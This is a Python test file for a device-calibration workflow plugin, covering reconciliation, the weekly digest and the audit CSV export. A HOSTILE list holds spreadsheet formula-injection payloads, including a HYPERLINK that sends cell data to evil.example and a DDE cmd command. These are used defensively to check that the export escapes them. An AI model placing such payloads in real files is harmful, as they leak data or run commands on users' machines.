"""Daily reconciliation fixes drift between the device table and the cycles; the weekly digest; the CSV export."""

from __future__ import annotations

import csv
import json
from datetime import UTC, timedelta
from pathlib import Path

import devcal_helpers as h
from temporalio.api.enums.v1 import EventType

import plugins.device_calibration as device_calibration
from engine.rules import add_months, all_notices
from engine.testing import moments
from engine.testing.kit import org_config
from plugins.device_calibration.activities import WAKE_EARLY
from plugins.device_calibration.commands import export_rows, write_csv
from plugins.device_calibration.config import DeviceCalibrationSettings
from plugins.device_calibration.models import VIEW_MEMO, CycleState, ReconcileReport


def _config() -> dict[str, object]:
    return org_config(plugins=["device_calibration"], settings={"device_calibration": h.SETTINGS},
                      extra=h.ORG_EXTRA)


async def test_reconciliation_digest_and_export(scenario_harness: object, tmp_path: Path) -> None:
    async with scenario_harness({"device_calibration": device_calibration},  # type: ignore[operator]
                                config=_config()) as env:
        today = (await env.begin_at(moments.ordinary_workday())).date()
        h.seed(env.standin, {
            "recA": h.device_row("CT-0001", last=add_months(today + timedelta(days=10), -12)),  # event missed
            "recB": h.device_row("CT-0002", last=add_months(today + timedelta(days=60), -12)),  # due hand-edited
            "recC": h.device_row("CT-0003", last=add_months(today, -2), department="检验科"),  # scrapped
            "recD": h.device_row("CT-0004", last=add_months(today, -3), department="检验科"),  # in step
        })
        for record_id, device_id in (("recB", "CT-0002"), ("recC", "CT-0003"), ("recD", "CT-0004")):
            await env.deliver(h.record_event(record_id, device_id))
        # hand edits nobody told the engine about
        new_due = today + timedelta(days=90)  # an extension: later than last + interval, so it wins
        h.row(env.standin, "recB")["有效期至"] = h.ms(new_due)
        h.row(env.standin, "recC")["状态"] = "报废"

        handle = await env.start_workflow("device_calibration.Reconcile", {"org": "acme"},
                                          id="acme:device_calibration:schedule:reconcile-test")
        report = ReconcileReport.model_validate(await handle.result())
        env.started.extend(env.workflow_id("device_calibration", k) for k in ("CT-0001", "CT-0002"))
        await env.settle()
        by_key = {c.key: c for c in report.changes}
        assert report.rows == 4
        # the seconds of each phase, for the log and the benchmark
        assert {"read", "check", "start"} <= set(report.phases) and min(report.phases.values()) >= 0
        assert by_key["CT-0001"].action == "started"
        assert by_key["CT-0002"].action == "updated" and new_due.isoformat() in by_key["CT-0002"].reason
        assert by_key["CT-0003"].action == "retired"
        assert by_key["CT-0004"].action == "unchanged"
        assert "CT-0001:electrical_safety" not in by_key  # the row carries no safety test
        report_text = [m.text for m in env.messages(to=h.MANAGER) if "对账" in m.text]
        assert report_text and "CT-0001" in report_text[-1] and "CT-0003" in report_text[-1]

        started = CycleState.model_validate(await env.query("device_calibration", "CT-0001"))
        assert started.phase == "active" and started.due == today + timedelta(days=10)
        # the reconciliation wrote the started cycle's "registered" row (in a batch), under the cycle's own key
        assert [(r["日志编号"], json.loads(r["详情"])) for r in _registered(env, "CT-0001")] == [
            (f"{env.workflow_id('device_calibration', 'CT-0001')}:1:1", {"due": started.due.isoformat()})]
        assert [(e.cycle, e.seq) for e in h.history(started, "registered")] == [(1, 1)]
        # and seeded it with the row it read: the cycle read nothing and wrote nothing to register
        events = (await env.handle("device_calibration", "CT-0001").fetch_history()).events
        assert not [e for e in events if e.HasField("activity_task_scheduled_event_attributes")]
        # and gave it the view it keeps in its memo: the cycle did not need to write it
        assert not [e for e in events if e.HasField("workflow_properties_modified_event_attributes")]
        described = await env.handle("device_calibration", "CT-0001").describe()
        assert (await described.memo_value(VIEW_MEMO))["due"] == started.due.isoformat()
        fixed = CycleState.model_validate(await env.query("device_calibration", "CT-0002"))
        assert fixed.due == new_due and h.history(fixed, "due_changed")[0].actor == "reconciliation"
        retired = await env.handle("device_calibration", "CT-0003").result()
        assert retired["phase"] == "retired"

        # a second run finds nothing to fix
        again = await env.start_workflow("device_calibration.Reconcile", {"org": "acme"},
                                         id="acme:device_calibration:schedule:reconcile-again")
        second = ReconcileReport.model_validate(await again.result())
        assert {c.action for c in second.changes} == {"unchanged"}
        assert len(_registered(env, "CT-0001")) == 1

        # weekly digest: the department head hears of the device due within 30 days, not the extended one
        digest = await env.start_workflow("device_calibration.WeeklyDigest", {"org": "acme"},
                                          id="acme:device_calibration:schedule:digest-test")
        await digest.result()
        cards = [m for m in env.messages(to=h.HEAD) if "周报" in m.text]
        assert cards and "CT-0001" in cards[-1].text and "CT-0002" not in cards[-1].text
        assert "CT-0004" not in cards[-1].text

        # the audit export: Bitable log and workflow history, one row per decision or confirmation
        rows = await export_rows(env.config, env.app.feishu, env.client, "acme")
        out = tmp_path / "audit.csv"
        write_csv(rows, out)
        with out.open(encoding="utf-8-sig") as handle_:
            read = list(csv.DictReader(handle_))
        assert {r["device_id"] for r in read} >= {"CT-0001", "CT-0002", "CT-0003"}
        assert any(r["action"] == "due_changed" and r["actor"] == "reconciliation" for r in read)
        one = await export_rows(env.config, env.app.feishu, env.client, "acme", device="CT-0003")
        assert one and {r["device_id"] for r in one} == {"CT-0003"}
        assert any(r["action"] == "retired" for r in one)


async def test_a_cycle_months_from_its_first_reminder_starts_dormant_and_reminds_on_time(
        scenario_harness: object) -> None:
    """A cycle the reconciliation starts costs no workflow task until an hour before its first reminder."""
    async with scenario_harness({"device_calibration": device_calibration},  # type: ignore[operator]
                                config=_config()) as env:
        today = (await env.begin_at(moments.ordinary_workday())).date()
        due = today + timedelta(days=200)
        h.seed(env.standin, {"recA": h.device_row("CT-0001", last=add_months(due, -12))})
        handle = await env.start_workflow("device_calibration.Reconcile", {"org": "acme"},
                                          id="acme:device_calibration:schedule:reconcile-dormant")
        report = ReconcileReport.model_validate(await handle.result())
        assert {c.key: c.action for c in report.changes} == {"CT-0001": "started"}
        env.started.append(env.workflow_id("device_calibration", "CT-0001"))
        await env.settle()
        assert len(_registered(env, "CT-0001")) == 1  # its audit row is written at once all the same

        reminders = all_notices(due, DeviceCalibrationSettings().reminders, env.calendar())
        first = min(n.at for n in reminders if n.action == "remind" and n.at is not None)
        cycle = env.handle("device_calibration", "CT-0001")
        described = await cycle.describe()
        assert described.execution_time is not None
        assert abs(described.execution_time - (first - WAKE_EARLY)) < timedelta(minutes=5)
        # (the time-skipping server may skip to that moment as soon as nothing else is due, so the test looks
        # at when a workflow task was first scheduled, if one was, not at whether one ran)
        events = [e async for e in cycle.fetch_history_events()]
        assert events[0].event_type == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_STARTED
        assert events[0].event_time.ToDatetime(UTC) < first - timedelta(days=100)
        tasks = [e.event_time.ToDatetime(UTC) for e in events
                 if e.event_type == EventType.EVENT_TYPE_WORKFLOW_TASK_SCHEDULED]
        assert all(at >= described.execution_time - timedelta(seconds=1) for at in tasks)

        # woken an hour early, it sends its first reminder on time, and keeps the day it was registered
        await env.advance_to(max(first + timedelta(minutes=5), await env.now()))
        state = CycleState.model_validate(await env.query("device_calibration", "CT-0001"))
        assert (state.phase, state.due) == ("active", due)
        sent = h.history(state, "remind")
        assert [e.detail["step"] for e in sent] == ["before:30"]
        assert abs(sent[0].at - first) < timedelta(minutes=1)
        assert h.history(state, "registered")[0].at < first - timedelta(days=100)


def _registered(env: object, device_id: str) -> list[dict[str, object]]:
    return [r for r in h.log_rows(env.standin)  # type: ignore[attr-defined]
            if r["设备编号"] == device_id and r["动作"] == "registered"]


HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "＝1+1"]


async def test_export_writes_formula_cells_as_text(scenario_harness: object, tmp_path: Path) -> None:
    """Log cells typed into Bitable reach the audit CSV as text a spreadsheet will not run."""
    async with scenario_harness({"device_calibration": device_calibration},  # type: ignore[operator]
                                config=_config()) as env:
        h.seed(env.standin, {})
        env.standin.state.merge_json({"bitable": {h.APP: {h.LOG: {"records": [
            {"record_id": f"recLog{i}", "fields": {
                "日志编号": f"acme:device_calibration:CT-0009:calibration:1:{i}", "设备编号": "CT-0009",
                "类别": "calibration", "周期": 1, "动作": "confirmed", "操作人": "ou_x", "时间": 1_790_000_000_000 + i,
                "原因": text, "详情": "-0.3"}} for i, text in enumerate([*HOSTILE, "校准合格，偏差 0.2%"])]}}}})
        rows = await export_rows(env.config, env.app.feishu, env.client, "acme", device="CT-0009")
        out = tmp_path / "audit.csv"
        write_csv(rows, out)
        with out.open(encoding="utf-8-sig", newline="") as handle:
            read = list(csv.DictReader(handle))
    reasons = [r["reason"] for r in read]
    assert reasons == [*("'" + text for text in HOSTILE), "校准合格，偏差 0.2%"]
    assert {r["detail"] for r in read} == {"-0.3"}  # a number stays a number


def test_a_report_of_a_large_table_counts_every_change_and_lists_the_first() -> None:
    """100,000 rows listed one by one would not fit in a Temporal payload: the report counts them all."""
    from plugins.device_calibration.models import LISTED_CHANGES, ReconcileChange

    report = ReconcileReport(org="acme", rows=100_000)
    for i in range(100_000):
        report.add(ReconcileChange(key=f"DEV-{i:05d}", action="unchanged" if i % 100 else "updated"))
    assert report.count("unchanged") == 99_000 and report.count("updated") == 1_000 and report.fixes() == 1_000
    listed = [c.action for c in report.changes]
    assert listed.count("unchanged") == LISTED_CHANGES and listed.count("updated") == 1_000
    assert len(report.model_dump_json()) < 2**20 // 4
